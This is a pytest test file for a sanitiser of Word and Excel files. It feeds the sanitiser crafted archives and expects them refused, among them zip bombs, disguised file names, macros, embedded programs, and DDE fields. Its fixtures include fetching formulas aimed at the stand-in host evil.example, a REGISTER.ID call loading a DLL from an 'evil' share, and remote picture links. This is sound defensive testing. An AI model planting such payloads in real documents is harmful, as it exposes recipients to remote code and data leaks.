"""What is looked at in a Word or Excel file: names, sizes, what it carries, and what it would fetch from elsewhere.

Judged in this process: that it happens in one of its own is told by `test_judging.py`.
"""

import io
import random
import struct
import zipfile

import pytest

from support.documents.apart.__main__ import answer
from support.documents.apart.office import MOST_PARTS, SMALL
from support.documents.apart.refused import Refused
from tests.support.documents import made

RELATIONS = "word/_rels/document.xml.rels"


def docx(**parts: bytes) -> bytes:
    return made.archive(made.docx_parts() | parts)


def relation(kind: str, target: str, mode: str = "", part: str = RELATIONS) -> bytes:
    return docx(**{part: made.relation(kind, target, mode)})


def fields(body: str) -> bytes:
    return docx(**{"word/document.xml": made.word(body=body)})


def simple(*instructions: str) -> bytes:
    return fields("".join(f'<w:fldSimple w:instr="{said}"/>' for said in instructions))


def kept(content: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(answer("judge", content).content))


def why_not(content: bytes) -> str:
    with pytest.raises(Refused) as refusal:
        answer("judge", content)
    return refusal.value.why


# The zip


def packed(name: str, *, kind: int = zipfile.ZIP_DEFLATED, mode: int = 0) -> bytes:
    """A Word file with one more part, as some program of somebody's own may pack it."""
    into = io.BytesIO(made.docx())
    with zipfile.ZipFile(into, "a") as archive:
        part = zipfile.ZipInfo(name)
        part.compress_type, part.external_attr = kind, mode << 16
        archive.writestr(part, b"<a/>")
    return into.getvalue()


def patched(content: bytes, sign: bytes, at: int, said: bytes) -> bytes:
    """The zip with something else said of each part: in the directory (PK 1 2), or before it (PK 3 4)."""
    changed, start = bytearray(content), content.find(sign)
    while start >= 0:
        changed[start + at : start + at + len(said)] = said
        start = content.find(sign, start + 4)
    return bytes(changed)


def with_broken_part() -> bytes:
    """What is packed no longer unpacks."""
    content = made.docx()
    begin = content.index(b"word/document.xml") + len(b"word/document.xml")
    return content[:begin] + b"\xff" * 20 + content[begin + 20 :]


IN_DIRECTORY, NO_PARTS = b"PK\x01\x02", b"PK\x03\x04" + made.archive({})
ODD = {
    "a name that shows as another": (packed("word/\u202elmx.exe"), "wrong_paths"),
    "a name with a sign nobody sees": (packed("word/a\x01.xml"), "wrong_paths"),
    "a name that ends twice": (packed("word/a_.exe").replace(b"word/a_", b"word/a\0"), "wrong_paths"),
    "a name of Windows": (packed("word\\a.xml"), "wrong_paths"),
    "a drive of Windows": (packed("c:a.xml"), "wrong_paths"),
    "a name that goes nowhere": (packed("word/./a.xml"), "wrong_paths"),
    "a link to somewhere else": (packed("word/a.xml", mode=0o120777), "wrong_paths"),
    "a part that is packed otherwise": (packed("word/a.xml", kind=zipfile.ZIP_BZIP2), "damaged"),
    "a part that does not unpack": (with_broken_part(), "damaged"),
    "a zip of a later kind": (patched(made.docx(), IN_DIRECTORY, 6, b"\xff\x00"), "damaged"),
    "a name in no writing": (packed("word/é.xml").replace("é".encode(), b"\xff\xff"), "damaged"),
    "parts that say they are huge": (patched(made.docx(), IN_DIRECTORY, 24, struct.pack("<L", 2**26)), "bomb"),
    "nothing in it": (NO_PARTS, "two_in_one"),
}


@pytest.mark.parametrize(("content", "why"), ODD.values(), ids=ODD)
def test_zip_as_no_office_program_writes_it_is_refused(content, why):
    assert why_not(content) == why


@pytest.mark.parametrize(("parts", "why"), [(MOST_PARTS, "not_a_kind"), (MOST_PARTS + 1, "bomb")])
def test_parts_have_an_end(parts, why):
    assert why_not(made.archive({f"{number}.txt": b"" for number in range(parts)})) == why


@pytest.mark.parametrize(("more", "why"), [(0, "not_a_kind"), (1, "bomb")])
def test_all_parts_together_have_an_end_by_what_they_say(more, why):
    assert why_not(made.with_lying_size(made.archive({"a.txt": b"a"}), 64 * 1024 * 1024 + more)) == why


def test_what_is_small_may_be_as_empty_as_it_likes():
    """The half of a page of white packs better than any bomb."""
    assert len(kept(docx(**{"word/media/a.bin": bytes(SMALL)})).read("word/media/a.bin")) == SMALL
    assert why_not(docx(**{"word/media/a.bin": bytes(SMALL + 1)})) == "bomb"


@pytest.mark.parametrize(("dense", "is_kept"), [(8_000, True), (7_000, False)])
def test_part_may_be_two_hundred_times_as_large_as_it_is_packed(dense, is_kept):
    part = random.Random(0).randbytes(dense) + bytes(2 * SMALL - dense)
    content = docx(**{"word/media/a.bin": part})
    assert kept(content).read("word/media/a.bin") == part if is_kept else why_not(content) == "bomb"


def test_large_picture_that_is_packed_or_not_is_kept():
    part = random.Random(0).randbytes(2 * SMALL)
    assert kept(docx(**{"word/media/a.bin": part})).read("word/media/a.bin") == part
    assert "word/media/a.xml" in kept(packed("word/media/a.xml", kind=zipfile.ZIP_STORED)).namelist()


def test_folders_are_no_parts():
    assert kept(packed("word/media/")).namelist() == list(made.docx_parts())


def test_zip_says_nothing_of_when_it_was_written():
    assert {part.date_time for part in kept(made.docx()).infolist()} == {(1980, 1, 1, 0, 0, 0)}


# What it carries


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("word/VBAPROJECT.BIN", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("word/Embeddings/a.bin", "file_inside"),
        ("word/activeX/activeX1.xml", "file_inside"),
        ("word/afchunk.mht", "file_inside"),
        ("xl/EXTERNALLINKS/a.xml", "from_elsewhere"),
    ],
)
def test_part_is_refused_by_its_name_however_it_is_written(name, why):
    assert why_not(docx(**{name: b"<a/>"})) == why


@pytest.mark.parametrize(
    "begins", [b"\x7fELF", b"\xca\xfe\xba\xbe", b"\xcf\xfa\xed\xfe", b"\xce\xfa\xed\xfe", b"#!/bin/sh"]
)
def test_program_of_any_machine_is_refused(begins):
    assert why_not(docx(**{"word/media/a.png": begins + bytes(64)})) == "program"


@pytest.mark.parametrize("kind", ["oleObject", "package", "control", "aFChunk"])
def test_another_file_is_refused_by_how_it_is_referred_to(kind):
    assert why_not(relation(kind, "a.bin")) == "file_inside"


@pytest.mark.parametrize(
    "how", ['Override PartName="/word/text.bin"', 'Default Extension="bin"', 'Override PartName="/word/text.vml"']
)
@pytest.mark.parametrize("written", [str, str.upper])
def test_text_that_is_called_otherwise_is_not_left_unread(how, written):
    parts = made.docx_parts()
    more = f'<{how} ContentType="{written(f"{made.DOCX}.footer+xml")}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", more.encode())
    body = made.word(body='<w:fldSimple w:instr="DDEAUTO cmd"/>')
    assert why_not(made.archive(parts | {"word/text.bin": body})) == "wrong_paths"


@pytest.mark.parametrize("name", ["xl/connections.xml", "xl/queryTables/queryTable1.xml"])
def test_workbook_that_asks_a_database_or_a_page_is_refused(name):
    assert why_not(docx(**{name: b"<a/>"})) == "from_elsewhere"


@pytest.mark.parametrize("kind", ["externalLink", "connections", "queryTable"])
def test_what_fetches_is_refused_by_how_it_is_referred_to_whatever_it_is_called(kind):
    """A workbook that runs a program by DDE says so in a part of its own, which refers to nothing."""
    assert why_not(relation(kind, "a.xml", part="xl/_rels/workbook.xml.rels")) == "from_elsewhere"


def test_part_of_another_program_may_be_called_as_it_likes():
    """.NET calls the file that says who wrote it `.psmdcp`."""
    parts = made.docx_parts()
    kind = 'ContentType="application/vnd.openxmlformats-package.core-properties+xml"'
    more = (
        f'<Default Extension="psmdcp" {kind}/><Default Extension="XML" ContentType="{made.DOCX}.styles+xml"/></Types>'
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", more.encode())
    assert kept(made.archive(parts | {"package/a.psmdcp": b"<a/>"})).read("package/a.psmdcp") == b"<a/>"


def test_xml_is_read_whatever_its_name_is_written_like():
    assert why_not(docx(**{"word/A.XML": b'<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'})) == "damaged"
    upper = RELATIONS.replace(".rels", ".RELS")
    assert why_not(relation("image", "https://evil.example/a.png", part=upper)) == "from_elsewhere"


# What it would fetch


@pytest.mark.parametrize(
    ("target", "mode"),
    [
        ("pictures/a.png", "External"),
        ("pictures/a.png", "EXTERNAL"),
        ("//evil/share/a.png", ""),
        (r"\\evil\share\a.png", ""),
        ("FILE:///c:/a.png", ""),
    ],
)
def test_picture_from_elsewhere_is_refused_however_it_is_said(target, mode):
    assert why_not(relation("image", target, mode)) == "from_elsewhere"


@pytest.mark.parametrize("target", ["http://example.jp/", "HTTPS://example.jp/", "mailto:hanako@example.jp", "#top"])
def test_link_that_somebody_may_follow_stays(target):
    content = relation("hyperlink", target, "External")
    assert kept(content).read(RELATIONS) == made.relation("hyperlink", target, "External")


@pytest.mark.parametrize("word", ["DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "LINK", "IMPORT", "includetext"])
def test_field_that_fetches_is_refused_wherever_it_stands(word):
    assert why_not(simple(f" {word} a")) == "from_elsewhere"
    assert why_not(simple("PAGE", f"{word} a")) == "from_elsewhere"


def test_field_may_stand_on_several_lines_of_the_file():
    """Between two pieces of its text there is nothing of it, however the file is broken into lines."""
    link = '<w:instrText>HYPERLINK "https://example.jp/</w:instrText>\n<w:instrText>LINK"</w:instrText>'
    assert kept(fields(link)).namelist() == list(made.docx_parts())


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("https://evil.example/")',
        '=_xlfn.WEBSERVICE("https://evil.example/")',
        '=SUM(1,_xlfn.IMAGE ("https://evil.example/a.png"))',
        '=_xlfn._xlws.STOCKHISTORY("MSFT",1)',
        '=rtd("a.b",,"c")',
        '=REGISTER.ID("\\\\evil\\a.dll","b")',
        '=DDE("a","b","c")',
        '="日本"&WEBSERVICE("https://evil.example/")',
    ],
)
def test_formula_that_fetches_is_refused(formula):
    assert why_not(made.calculated(formula)) == "from_elsewhere"


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://example.jp/","私の作品")',
        "='Image (2)'!A1",
        "=LINK*2",
        "=MYIMAGE(1)",
        "WEBSERVICE(とIMAGE(",
    ],
)
def test_formula_that_fetches_nothing_stays(formula):
    assert "xl/worksheets/sheet1.xml" in kept(made.calculated(formula)).namelist()


FETCHING = 'WEBSERVICE("https://evil.example/")'


@pytest.mark.parametrize(
    "element",
    [
        f"<definedName name='a'>{FETCHING}</definedName>",
        f"<dataValidation><formula1>1</formula1><formula2>{FETCHING}</formula2></dataValidation>",
        f"<cfRule><formula>{FETCHING}</formula></cfRule>",
        f"<calculatedColumnFormula>{FETCHING}</calculatedColumnFormula>",
        f"<totalsRowFormula>{FETCHING}</totalsRowFormula>",
        f"<f>1+A</f><f>{FETCHING}</f>",
        "<f>WEB<![CDATA[SERVICE]]>(A1)</f>",
    ],
)
def test_formula_that_fetches_is_refused_wherever_it_stands(element):
    part = f'<a xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{element}</a>'.encode()
    assert why_not(docx(**{"xl/a.xml": part})) == "from_elsewhere"


def drawing(inside: str) -> bytes:
    """As Word and Excel have drawn until 2007, and still draw notes beside a cell."""
    spaces = (
        f'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{made.RELATIONS}"'
    )
    return f"<xml {spaces}><v:shape>{inside}</v:shape></xml>".encode()


def linked(inside: str, part: str) -> bytes:
    """With a picture that it calls a link to be followed, and so may be anywhere."""
    link = made.relation("hyperlink", "https://evil.example/a.png", "External")
    return docx(**{RELATIONS: link, part: drawing(inside)})


@pytest.mark.parametrize("part", ["word/header1.xml", "xl/drawings/vmlDrawing1.vml", "xl/drawings/A.VML"])
@pytest.mark.parametrize(
    "inside",
    [
        '<v:imagedata r:href="r1"/>',
        '<a:blip r:link="r1"/>',
        '<v:imagedata src="https://evil.example/a.png"/>',
        '<v:fill o:href="&#104;ttps://evil.example/a.png"/>',
        '<v:imagedata o:althref="\\\\evil\\a.png"/>',
    ],
)
def test_picture_that_is_linked_is_refused_whatever_it_calls_the_link(inside, part):
    assert why_not(linked(inside, part)) == "from_elsewhere"


def test_drawing_that_fetches_nothing_stays_though_excel_leaves_its_lines_open():
    open_line = '<v:imagedata o:relid="r1"/><v:textbox href="https://example.jp/">A<br>B</v:textbox>'
    assert "xl/drawings/a.vml" in kept(linked(open_line, "xl/drawings/a.vml")).namelist()
    near = '<v:imagedata r:id="r1" src="a.png" o:href="C:\\a.png"/><a:b src="https://example.jp/"/>'
    assert "word/header1.xml" in kept(linked(near, "word/header1.xml")).namelist()


def test_drawing_is_read_however_it_is_written_and_called():
    far = drawing('<v:imagedata src="https://evil.example/a.png"/>')
    assert why_not(docx(**{"xl/a.vml": far.decode().encode("utf-16")})) == "from_elsewhere"
    assert why_not(docx(**{"xl/a.vml": b'<!DOCTYPE a [<!ENTITY b "&#115;rc">]><a/>'})) == "from_elsewhere"
    parts = made.docx_parts()
    kind = made.DOCX.replace("wordprocessingml.document", "vmlDrawing")
    for ending in ("vml", "bin"):
        more = f'<Override PartName="/xl/a.{ending}" ContentType="{kind}"/></Types>'
        types = {"[Content_Types].xml": parts["[Content_Types].xml"].replace(b"</Types>", more.encode())}
        content = made.archive(parts | types | {f"xl/a.{ending}": drawing("")})
        assert f"xl/a.{ending}" in kept(content).namelist() if ending == "vml" else why_not(content) == "wrong_paths"


def test_picture_of_a_cell_that_is_fetched_is_refused_by_its_name_and_by_how_it_is_referred_to():
    assert why_not(docx(**{"xl/richData/rdRichValueWebImage.xml": b"<a/>"})) == "from_elsewhere"
    assert why_not(relation("rdRichValueWebImage", "a.xml", part="xl/_rels/workbook.xml.rels")) == "from_elsewhere"
